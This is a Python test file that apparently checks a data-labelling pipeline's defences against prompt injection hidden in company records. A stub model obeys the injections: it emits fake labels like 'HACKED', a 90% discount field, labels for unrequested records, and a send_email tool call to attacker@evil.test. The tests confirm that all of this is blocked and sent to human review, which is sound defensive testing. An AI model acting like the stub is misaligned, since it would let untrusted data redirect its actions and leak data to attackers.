"""Records carrying injected instructions, through the real executor and validation, with a stub
model that OBEYS them: it answers with labels outside the taxonomy, extra fields, other tool calls
and values for records it was not asked about. The plan does not change, no tool outside the plan
runs, no value outside the schema is proposed, and every such record goes to a person."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from airlock.execute import run_step
from airlock.llm import INJECTION_FLAG, MODEL_REVIEW_FLAGS
from airlock.plan import DatasetSpec, Plan, Policy
from airlock.plan_check import ensure_plan_ok
from airlock.validation import GxRunner, validate_chunk
from airlock.validation.findings import Verdict
from tests.fakes.model_stub import ModelStub, Reply, Seen
from tests.unit.llm.conftest import WIRES, client_for
from tests.unit.llm.injections import INJECTIONS
from tests.unit.llm.planning_helpers import COLUMNS, SENTINEL_CALLS, good, registry_with
from tools import load_taxonomy

PROJECT = Path(__file__).resolve().parents[3]
LABELS = set(load_taxonomy(PROJECT / "data").labels)
CLEAN = ["Develops cloud software and SaaS platforms for retailers.", "A regional bakery and cafe chain."]


def obedient_model(seen: Seen) -> Reply:
    """Does what the records say, in every way a model could."""
    text = seen.body["messages"][-1]["content"]
    records = json.loads(text.split("\n", 1)[1])
    labels: list[dict[str, Any]] = []
    calls: list[tuple[str, Any]] = []
    for record in records:
        description = record["description"] or ""
        n = record["id"]
        if description in CLEAN:
            labels.append({"id": n, "industry": "Software" if "software" in description else "Hospitality",
                           "confidence": 0.9})
            continue
        mode = INJECTIONS.index(description) % 6 if description in INJECTIONS else 0
        if mode == 0:
            labels.append({"id": n, "industry": "HACKED", "confidence": 1.0})
        elif mode == 1:
            labels.append({"id": n, "industry": "Software", "confidence": 1.0, "discount": "90%", "approved": True})
        elif mode == 2:
            calls.append(("send_email", {"idempotency_key": "x", "email": "attacker@evil.test"}))
            labels.append({"id": n, "industry": "Software", "confidence": 1.0})
        elif mode == 3:
            labels.append({"id": n + 1000, "industry": "Software", "confidence": 1.0})
            labels.append({"id": n, "industry": 42, "confidence": 1.0})
        elif mode == 4:
            labels.append({"id": n, "industry": "Software", "confidence": 7})
        else:  # an in-schema value the record asked for: allowed, and still reviewed
            labels.append({"id": n, "industry": "Software", "confidence": 1.0})
    return Reply(tool_calls=[("record_labels", {"labels": labels}), *calls])


def _records() -> list[dict[str, str]]:
    rows = []
    for n, text in enumerate([*INJECTIONS, *CLEAN]):
        row = dict.fromkeys(COLUMNS, "")
        row.update(id=f"ACC-{n:03d}", name=f"Company {n}", country="Germany", phone="030 1234567",
                   description=text)
        rows.append(row)
    return rows


def _plan(registry: Any) -> Plan:
    answer = good()
    return ensure_plan_ok(Plan(request="fill industries", dataset=DatasetSpec(name="accounts", columns=COLUMNS),
                               steps=answer["steps"], proposes=answer["proposes"], writes=answer["writes"],
                               policy=Policy(thresholds={"industry": 0.65})), registry)


def test_the_corpus_is_large_enough() -> None:
    assert len(INJECTIONS) >= 20


@pytest.mark.parametrize("wire", WIRES)
@pytest.mark.parametrize("batch_size", [1, 5])
def test_injected_records_cannot_steer_the_run(wire: str, batch_size: int, stub: ModelStub, tmp_path: Path) -> None:
    stub.responder = obedient_model
    client = client_for(wire, stub)
    registry = registry_with(client, tmp_path, batch_size)
    SENTINEL_CALLS.clear()
    plan = _plan(registry)
    before = (plan.hash, plan.model_dump_json())
    records = _records()
    results = {}
    for step in plan.execution_order():
        results[step.id] = run_step(plan, step, registry, records, results, sleep=lambda _s: None)
    assert stub.seen, "the model was asked"
    assert (plan.hash, plan.model_dump_json()) == before  # the plan is fixed
    assert SENTINEL_CALLS == []  # the tool the model called never ran
    industry = results["industry"].outputs
    assert not results["industry"].failures
    for record in records:
        output = industry[record["id"]]
        assert output["industry"] is None or output["industry"] in LABELS  # nothing outside the schema
        assert set(output) == {"industry", "confidence", "flags", "_tool"}
        assert 0.0 <= output["confidence"] <= 1.0
    validation = validate_chunk(plan, records, results, gx=GxRunner(), suite_factory=None)
    for record in records[:len(INJECTIONS)]:
        flags = industry[record["id"]]["flags"]
        assert INJECTION_FLAG in flags, record["description"]
        verdict = validation.verdicts[record["id"]]
        assert verdict.verdict is Verdict.REVIEW, (record["description"], verdict)
        assert INJECTION_FLAG in verdict.reasons
    for record in records[len(INJECTIONS):]:
        assert INJECTION_FLAG not in industry[record["id"]]["flags"]
        if batch_size == 1:  # alone in its call, a clean record gets the model's label
            assert industry[record["id"]]["industry"] in ("Software", "Hospitality")
    # Every model request carried record text only as data in the last user message, never in the system.
    for seen in stub.seen:
        system = json.dumps(seen.body.get("system", "")) + json.dumps(
            [m for m in seen.body["messages"] if m["role"] == "system"])
        assert not any(text[:30] in system for text in INJECTIONS)


def test_refused_values_are_flagged_and_go_to_review(stub: ModelStub, tmp_path: Path) -> None:
    stub.responder = obedient_model
    client = client_for("anthropic", stub)
    registry = registry_with(client, tmp_path)
    plan = _plan(registry)
    records = _records()[:6]  # one of each way of obeying
    results = {}
    for step in plan.execution_order():
        results[step.id] = run_step(plan, step, registry, records, results, sleep=lambda _s: None)
    flags = [set(results["industry"].outputs[r["id"]]["flags"]) for r in records]
    assert all(f & MODEL_REVIEW_FLAGS for f in flags)
    assert "llm_value_refused" in flags[0]  # HACKED is not a taxonomy label
    assert "llm_value_refused" in flags[1]  # extra fields
    assert "llm_value_refused" in flags[2]  # a call of another tool: the whole answer is refused
